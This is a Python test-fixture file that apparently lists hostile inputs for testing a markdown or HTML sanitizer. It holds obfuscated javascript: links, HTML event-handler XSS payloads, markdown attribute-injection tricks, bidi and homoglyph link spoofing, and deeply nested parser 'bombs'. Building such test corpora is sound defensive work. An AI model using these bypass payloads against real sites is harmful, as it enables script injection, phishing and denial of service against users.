"""Documents that try to run a script, to load something, or to lead elsewhere than they say."""

_LINKS = [
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "java\tscript:alert(1)", "java\nscript:alert(1)",
    "\x01javascript:alert(1)", "java\0script:alert(1)", "&#106;avascript:alert(1)", "&#x6A;avascript:alert(1)",
    "javascript&colon;alert(1)", "javascript&#58;alert(1)", "java&Tab;script:alert(1)", "java&NewLine;script:alert(1)",
    "javascript%3Aalert(1)", "%6Aavascript:alert(1)", "\\javascript:alert(1)", "java\\script:alert(1)", "javascript\\:alert(1)",
    "\u200bjavascript:alert(1)", "java\u200bscript:alert(1)", "java\u202escript:alert(1)", "ｊavascript:alert(1)",
    "vbscript:msgbox(1)", "livescript:x", "mocha:x", "data:text/html,<script>alert(1)</script>", "data:image/svg+xml,<svg onload=alert(1)>",
    "data:image/png;base64,AAAA", "DATA:text/html;base64,AAAA", "blob:https://e.example/x", "file:///etc/passwd", "ftp://e.example/",
    "vscode://x/y", "command:x", "ms-word:ofe|u|https://e.example", "intent://x#Intent;end", "about:blank", "view-source:https://e.example",
    "feed:javascript:alert(1)", "jar:https://e.example!/", "tel:1", "sms:1", "ws://e.example", "chrome://settings",
    "//e.example/x", "\\\\e.example\\x", "/\\e.example", "///e.example", "https:e.example", "https:/e.example", "https:///e.example",
    "https:\\\\e.example", "https:&bsol;&bsol;e.example", "http&colon;&sol;&sol;e.example", "?javascript:alert(1)", "#x", "/x", "x", "",
    'https://e.example/" onclick="alert(1)', "https://e.example/' onclick='alert(1)", "https://e.example/&quot;onclick=alert(1)",
    "https://e.example/><script>alert(1)</script>", "https://e.example/%22onclick=%22x", "https://e.example/\u202egpj.exe",
    "https://user:pass@e.example/", "mailto:a@b.example?body=<script>", "mailto:&quot;onclick=alert(1)", "mailto:", "https://",
]  # fmt: skip
_HTML = [
    "<script>alert(1)</script>", "<SCRIPT SRC=//e.example></SCRIPT>", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>",
    "<svg><a xlink:href=javascript:alert(1)>x</a></svg>", "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
    "<style>@import '//e.example'</style>", "<link rel=stylesheet href=//e.example>", "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>", "<object data=//e.example>", "<embed src=//e.example>", "<base href=//e.example>",
    "<meta http-equiv=refresh content='0;url=//e.example'>", "<form action=javascript:alert(1)><button>x</button></form>",
    "<input autofocus onfocus=alert(1)>", "<details open ontoggle=alert(1)>", "<video src=//e.example onerror=alert(1)>",
    "<audio src=//e.example>", "<body onload=alert(1)>", "<a href=javascript:alert(1)>x</a>", "<a href='//e.example'>x</a>",
    "<div style=background:url(//e.example)>", "<table background=//e.example>", "<marquee onstart=alert(1)>", "<!--><script>alert(1)</script>-->",
    "<!DOCTYPE x [<!ENTITY y 'z'>]>", "<?php echo 1 ?>", "<![CDATA[<script>alert(1)</script>]]>", "</p><script>alert(1)</script>",
    "<<script>script>alert(1)</script>", "<scr\0ipt>alert(1)</scr\0ipt>", "<scr<script>ipt>", "<img/src=x/onerror=alert(1)>",
    "<a\nhref=javascript:alert(1)>x</a>", "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;", "<template><script>x</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>", "<plaintext>", "<xmp><script>alert(1)</script></xmp>",
    "<javascript:alert(1)>", "<data:text/html,x>", "<vscode:x>", '<a@b.example" onclick="x>', '<https://e.example/"onclick=x>',
    "<https://e.example/&quot;onclick=x>", "<script:x>", "<ftp://e.example>", "<//e.example>",
]  # fmt: skip
_MARKUP = [
    '[a](https://e.example "x" onclick=alert(1) "")', "[a](https://e.example '\"onmouseover=\"alert(1)')",
    '[a](https://e.example "&quot; onclick=&quot;alert(1)")', '![x" onerror="alert(1)](https://e.example/i)',
    "![x&quot; onerror=&quot;alert(1)](https://e.example/i)", "![<img src=x onerror=alert(1)>](https://e.example/i)",
    '![a](https://e.example/i "x\\" onload=\\"alert(1)")', "![![b](https://e.example/2)](https://e.example/1)",
    "[![a](https://e.example/i)](javascript:alert(1))", "[a [b](https://e.example/2) c](https://e.example/1)",
    "![a [b](https://e.example/2) c](https://e.example/1)", "[a](<javascript:alert(1)>)", '[a]( <https://e.example/ " onclick=x> )',
    "[a]: javascript:alert(1)\n\n[a]", "[a]: //e.example\n\n[x][a] ![x][a] [a][]", "[a]:\n  data:text/html,x\n  'y'\n\n[a]",
    "[a]: https://e.example '\" onclick=\"x'\n\n[a]", '[a]: <https://e.example/> "<script>"\n\n![a]', "[ſ]: javascript:x\n\n[s]",
    '```" onclick="alert(1)\nx\n```', '```js"><script>alert(1)</script>\nx\n```', "~~~ <script>\nx\n~~~", "``` &quot;onclick\nx\n```",
    "    <script>alert(1)</script>", "`<script>alert(1)</script>`", "`` `<img onerror=x>` ``", "# <script>alert(1)</script>\n===",
    '|a" onclick="x|<script>|\n|:-|-:|\n|<img src=x onerror=y>|[a](javascript:x)|', '|a|\n|:-" onclick="x|\n|b|',
    "- <script>\n- alert(1)\n- </script>", "> <script>\n> alert(1)", '1" onclick=x. a', "999999999. a\n0. b", "<script\n>alert(1)</script\n>",
    "<div>\n\n[a](javascript:x)\n\n</div>", "\u202e[a](https://e.example)\u202c", "[\u202egpj.exe](https://e.example)",
    "[https://bank.example](https://e.example)", "[a](https://e.example/\U000e0041\U000e0042)", "&#x202e;&#8238;&#0;&#xe0041;",
    "[x](https://xn--e1awd7f.example) [y](https://ехample.example)", "[a](https://e.example)[b](javascript:x)", "\\<script>alert(1)</script>",
    "*<img*src=x onerror=alert(1)>", "<b *onclick=x*>", "~~<script>~~", '[a](https://e.example\n"b\nc")', "{: onclick=x} [a]{.x #y}",
    "[^1]: <script>\n\n[^1]", "[x] - [ ] <input>", "$$<script>$$ \\(<script>\\)", "www.e.example http://e.example a@b.example javascript:x",
    "![a](https://e.example/?q=secret)", "![a](HTTP://e.example/i)", "![a](mailto:a@b.example)", "[a](https://e.example){onclick=x}",
    '[a](https://e.example/`x`" onclick=y)', "`[a](javascript:x", "[<b>](https://e.example/<b>)", "[a\n\n](javascript:x)", "\r[a](javascript:x)\r",
]  # fmt: skip
_BOMBS = [
    "[" * 3_000,
    "![" * 2_000,
    "> " * 5_000,
    "- " * 5_000,
    "*" * 9_999 + "a" + "*" * 9_999,
    "`" * 9_999,
    "[a](" * 2_000,
    "<" * 9_999,
]

DOCUMENTS = [
    *(f"[text]({url})" for url in _LINKS),
    *(f"![alt]({url})" for url in _LINKS),
    *(f"[text](<{url}> 'title')" for url in _LINKS),
    *(f"<{url}>" for url in _LINKS),
    *(f"[a]\n\n[a]: {url}" for url in _LINKS),
    *_HTML,
    *(
        f"a {html} b\n\n- {html}\n\n> {html}\n\n|{html}|\n|-|\n|{html}|\n\n[{html}](https://e.example)"
        for html in _HTML
    ),
    *_MARKUP,
    *_BOMBS,
]
